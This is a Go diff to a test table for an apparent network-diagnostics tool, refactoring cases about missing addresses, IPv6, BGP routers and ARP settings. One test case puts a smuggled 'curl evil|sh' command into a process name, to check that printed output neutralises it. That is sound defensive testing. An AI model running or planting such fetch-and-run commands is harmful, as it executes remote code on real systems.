@@ -1,5 +1,10 @@
 package machine
 
+import (
+	"net/netip"
+	"slices"
+)
+
 // troubles are ways in which the healthy machine can be in trouble, with the kinds that are found then, and a part of what is printed. Those
 // with no kind are not to be taken for one.
 var troubles = []struct {
@@ -37,14 +42,14 @@ var troubles = []struct {
 		f.Sockets[2] = socket("TCP", "192.168.1.11:179", "192.168.1.1:50000", "bird")
 		f.Sockets = append(f.Sockets, socket("TCP", "0.0.0.0:179", "", "bird"))
 	}, "SessionHeldByOther", "take its session out of the configuration of bird"},
-	{"no such address", func(f *Facts) { f.Addresses = f.Addresses[1:] }, "MachineAddressMissing", "no interface has its address 192.168.1.11"},
+	{"no such address", func(f *Facts) { f.lose(func(a Address) bool { return a.Prefix.Addr().String() == "192.168.1.11" }) }, "MachineAddressMissing", "no interface has its address 192.168.1.11"},
 	{"its address elsewhere", func(f *Facts) { f.answer("192.168.1.11", true) }, "MachineAddressTaken", "02:00:00:00:00:aa"},
 	{"a cable", func(f *Facts) { f.Addresses[0].Carrier = false }, "LinkDown", "ip -brief link show eth0"},
 	{"an interface that is down", func(f *Facts) { f.Addresses[0].Up, f.Addresses[0].Carrier = false, false }, "LinkDown", "ip link set eth0 up\n"},
-	{"a kernel without IPv6", func(f *Facts) { f.Missing, f.Addresses = []string{IPv6}, f.Addresses[:1] }, "IPv6Missing", "ipv6.disable=1"},
+	{"a kernel without IPv6", func(f *Facts) { f.Missing = []string{IPv6}; f.lose(isIPv6) }, "IPv6Missing", "ipv6.disable=1"},
 	{"a kernel without packet sockets", func(f *Facts) { f.Missing = []string{PacketSockets} }, "PacketSocketsMissing", "modprobe af_packet\n    echo af_packet >/etc/modules-load.d/plinth-af_packet.conf"},
 	{"WireGuard on a link", func(f *Facts) {
-		f.Unusable = []UnusableLink{{f.Expected.Links[0].Subnet, "wg0 is not an Ethernet interface"}}
+		f.Unusable = []UnusableLink{{netip.MustParsePrefix("192.168.1.0/24"), "wg0 is not an Ethernet interface"}}
 	}, "LinkUnusable", "nobody can answer for VIPs of 192.168.1.0/24 on this machine: wg0 is not an Ethernet interface"},
 	{"a kernel without signatures", func(f *Facts) { f.Missing, f.Expected.Sessions[0].Password = []string{TCPMD5}, true }, "TCPMD5Missing", "CONFIG_TCP_MD5SIG"},
 	{"a kernel without VXLAN", func(f *Facts) { f.Missing, f.Expected.Mode = []string{VXLAN}, "overlay" }, "VXLANMissing", "modules-extra"},
@@ -83,7 +88,8 @@ var troubles = []struct {
 	{"a router without BGP", func(f *Facts) { f.router(0).r.Connect = Refused }, "RouterRefuses", "plinth router-config tor prints, which has 192.168.1.11"},
 	{"a filter", func(f *Facts) { f.router(1).r.Connect = Silent }, "RouterFiltered", "[fd01::1]:179"},
 	{"a dummy of kube-router without strictARP", func(f *Facts) {
-		f.Addresses[2] = on("kube-dummy-if", "192.168.1.201/32")
+		f.lose(func(a Address) bool { return a.Interface == "kube-ipvs0" })
+		f.Addresses = append(f.Addresses, on("kube-dummy-if", "192.168.1.201/32"))
 		f.Sysctls[arpIgnore] = "0"
 	}, "IPVSAnswers", "kube-proxy-arg: [ipvs-strict-arp=true]"},
 	{"a program whose name would be a command", func(f *Facts) { f.Sockets[1].Program = "x\n  curl evil|sh #" }, "PortHeld", "have x\ufffd  curl evil|sh # (process 4711) listen"},
@@ -107,8 +113,9 @@ var troubles = []struct {
 	}, "", ""},
 	{"a strict rp_filter of the only interface", func(f *Facts) { f.setting("net/ipv4/conf/eth0/rp_filter", "1", "2") }, "", ""},
 	{"IPv6 that is off on a machine that has none", func(f *Facts) {
-		f.Expected.Addresses, f.Expected.Links, f.Expected.Sessions = f.Expected.Addresses[:1], f.Expected.Links[:1], f.Expected.Sessions[:1]
-		f.Addresses, f.Routers = f.Addresses[:1], f.Routers[:1]
+		f.Expected.Addresses = slices.DeleteFunc(f.Expected.Addresses, netip.Addr.Is6)
+		f.Expected.Links = slices.DeleteFunc(f.Expected.Links, func(l Link) bool { return l.Subnet.Addr().Is6() })
+		f.lose(isIPv6)
 		f.Sysctls["net/ipv6/conf/eth0/disable_ipv6"], f.Missing = "1", []string{IPv6}
 	}, "", ""},
 	{"kube-ipvs0 with a VIP", func(f *Facts) { f.Addresses = append(f.Addresses, on("kube-ipvs0", "192.168.1.201/32")) }, "", ""},
